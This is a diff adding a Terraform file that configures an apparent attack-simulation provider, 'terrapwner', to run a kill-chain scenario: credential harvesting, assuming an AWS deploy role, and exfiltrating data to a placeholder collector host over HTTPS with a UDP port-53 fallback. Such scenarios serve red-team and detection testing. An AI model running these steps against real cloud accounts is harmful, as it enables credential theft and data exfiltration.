@@ -0,0 +1,50 @@
+terraform {
+  required_providers {
+    terrapwner = {
+      source = "hashicorp.com/DataDog/terrapwner"
+    }
+  }
+}
+
+provider "terrapwner" {}
+
+# Harvest credentials, pivot into a deployment role, then exfiltrate what was
+# gathered, falling back to DNS-friendly UDP when the pivot is blocked
+resource "terrapwner_scenario" "kill_chain" {
+  timeout = 15
+
+  step {
+    name   = "harvest"
+    action = "harvest_credentials"
+  }
+
+  step {
+    name         = "pivot"
+    action       = "assume_role"
+    role_arn     = "arn:aws:iam::123456789012:role/deploy"
+    session_name = "terrapwner-kill-chain"
+  }
+
+  step {
+    name     = "exfil"
+    action   = "exfil"
+    endpoint = "https://collector.example.com/loot"
+  }
+
+  step {
+    name     = "fallback"
+    action   = "exfil"
+    after    = ["pivot"]
+    when     = "on_failure"
+    channel  = "udp"
+    endpoint = "collector.example.com:53"
+  }
+}
+
+output "scenario_completed" {
+  value = terrapwner_scenario.kill_chain.completed
+}
+
+output "scenario_timeline" {
+  value = terrapwner_scenario.kill_chain.timeline
+}